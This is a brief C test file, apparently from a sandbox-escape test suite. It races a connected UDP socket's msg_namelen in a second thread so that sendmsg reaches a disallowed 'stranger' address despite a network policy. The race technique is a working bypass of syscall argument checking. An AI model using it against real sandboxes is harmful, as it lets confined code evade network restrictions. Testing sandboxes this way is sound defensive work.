// escape: flips msg_namelen of a connected socket between none, which goes to the friend, and the stranger's
// group: argument races
// policy: network
// attempts: 20000
#include "escape.h"

static void attack(void) {
  static struct sockaddr_in first, second;
  static struct iovec part = {"x", 1};
  static struct msghdr message;
  static socklen_t none = 0, all = sizeof second;
  first = the_friend();
  second = stranger();
  message = (struct msghdr){.msg_name = &second, .msg_iov = &part, .msg_iovlen = 1};
  static struct flip flip = {&message.msg_namelen, &none, &all, sizeof none};
  thread(flip_for_ever, &flip);
  const int fd = udp(AF_INET);
  if (connect(fd, ADDRESS(first)) < 0) broken("connect");
  while (more()) syscall(SYS_sendmsg, fd, &message, 0);
}
